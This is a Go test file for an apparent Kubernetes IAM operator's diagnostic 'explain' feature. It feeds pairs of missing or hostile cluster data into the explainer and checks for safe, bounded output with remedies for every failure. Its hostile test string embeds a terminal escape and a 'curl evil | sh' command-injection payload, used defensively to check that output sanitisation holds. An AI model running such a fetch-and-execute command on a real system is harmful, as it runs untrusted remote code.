package explain_test

import (
	"runtime/debug"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"

	"github.com/credence-iam/credence/operator/explain"
	"github.com/credence-iam/credence/operator/finding"
	"github.com/credence-iam/credence/operator/installation"
	"github.com/credence-iam/credence/operator/snapshot"
)

// TestAnyTwoParts: whichever two parts a user may not read, and whatever is strange in a pod, there is an explanation, and
// each failure has a remedy.
func TestAnyTwoParts(t *testing.T) {
	hostile := "x\x1b[2J'; curl evil | sh #\n" + strings.Repeat("y", 64<<10)
	changes := map[string]func(*world){
		"nothing":          func(*world) {},
		"namespace":        func(w *world) { w.Namespace, w.Problems[snapshot.SourceNamespace] = nil, "needs: get namespaces" },
		"controller":       func(w *world) { w.Workload = nil },
		"pod":              func(w *world) { w.Pod = nil },
		"log":              func(w *world) { w.Log, w.Problems[snapshot.SourceLog] = nil, "needs: get pods/log" },
		"events":           func(w *world) { w.Messages = nil },
		"trust":            func(w *world) { w.Trust = nil },
		"no trust":         func(w *world) { w.Trust, w.TrustGone = nil, true },
		"configuration":    func(w *world) { w.Installation.Configuration = nil },
		"no configuration": func(w *world) { w.Installation.Configuration, w.Installation.ConfigurationGone = nil, true },
		"pods of Credence": func(w *world) { w.Installation.WebhookPods, w.Installation.Brokers = nil, nil },
		"certificates": func(w *world) {
			w.Installation.WebhookTLS = nil
			for i := range w.Installation.Brokers {
				w.Installation.Brokers[i].TLS, w.Installation.Brokers[i].Known = nil, false
			}
		},
		"Deployments": func(w *world) { w.Installation.Found = &installation.Installation{Namespace: "credence"} },
		"no Credence": func(w *world) { w.Installation = snapshot.Installation{} },
		"judge":       func(w *world) { w.Judge = snapshot.Judge{} },
		"injector":    func(w *world) { w.Judge.Injector = nil },
		"status":      func(w *world) { w.edit(func(p *corev1.Pod) { p.Status = corev1.PodStatus{} }) },
		"bare sidecar": func(w *world) {
			w.edit(func(p *corev1.Pod) { p.Spec.InitContainers[0] = corev1.Container{Name: "credence-sidecar"} })
		},
		"no volumes": func(w *world) { w.edit(func(p *corev1.Pod) { p.Spec.Volumes = nil }) },
		"no opt-in": func(w *world) {
			if w.Namespace != nil {
				w.Namespace.Labels = nil
			}
		},
		"hostile pod": func(w *world) {
			w.edit(func(p *corev1.Pod) {
				p.Annotations["iam.amazonaws.com/role"], p.Annotations["iam.amazonaws.com/rôle"] = hostile, hostile
			})
		},
		"hostile log": func(w *world) {
			w.Log = []snapshot.LogLine{{Time: w.Now, Level: "ERROR", Text: hostile, Reason: "STS_ACCESS_DENIED", Error: hostile, Role: hostile, AccessKeyID: hostile}}
		},
		"hostile events": func(w *world) {
			w.Messages = []snapshot.Message{{Object: hostile, Reason: "FailedCreate", Text: hostile + "exceeded quota: " + hostile + ", requested: a=1, used: a=1, limited: a=1", Time: w.Now}}
			if w.Workload != nil {
				w.Pod, w.Workload.Pods = nil, 0
			}
		},
		"hostile brokers": func(w *world) {
			for i := range w.Installation.Brokers {
				b := &w.Installation.Brokers[i]
				b.Problem, b.Pod.Status.Conditions = hostile, nil
			}
		},
	}
	if len(changes) < 20 {
		t.Fatal("there are too few changes")
	}
	for first, change := range changes {
		for second, more := range changes {
			if second < first {
				continue
			}
			w := healthy(t)
			if first != second {
				change(w)
			}
			func() {
				defer func() {
					if p := recover(); p != nil {
						t.Fatalf("%s and %s: panic: %v\n%s", first, second, p, debug.Stack())
					}
				}()
				more(w)
				x := explain.Explain(w.Snapshot)
				var text, document strings.Builder
				if err := x.Write(&text, finding.Style{}); err != nil {
					t.Fatal(err)
				}
				if err := finding.WriteJSON(&document, x); err != nil {
					t.Fatal(err)
				}
				for _, out := range []string{text.String(), document.String()} {
					if strings.Contains(out, "\x1b") || len(out) > 64<<10 || x.Conclusion == "" {
						t.Errorf("%s and %s: %d bytes: %.3000q", first, second, len(out), out)
					}
				}
				for _, f := range x.Findings {
					if (f.State == finding.Failed || f.State == finding.Warning) && (f.Remedy == nil || f.Remedy.Who == "" || f.Remedy.What == "") {
						t.Errorf("%s and %s: no remedy: %+v", first, second, f)
					}
				}
			}()
		}
	}
}

// edit changes the pod, if there is one with a sidecar.
func (w *world) edit(f func(*corev1.Pod)) {
	if w.Pod != nil && len(w.Pod.Spec.InitContainers) > 0 {
		f(w.Pod)
	}
}
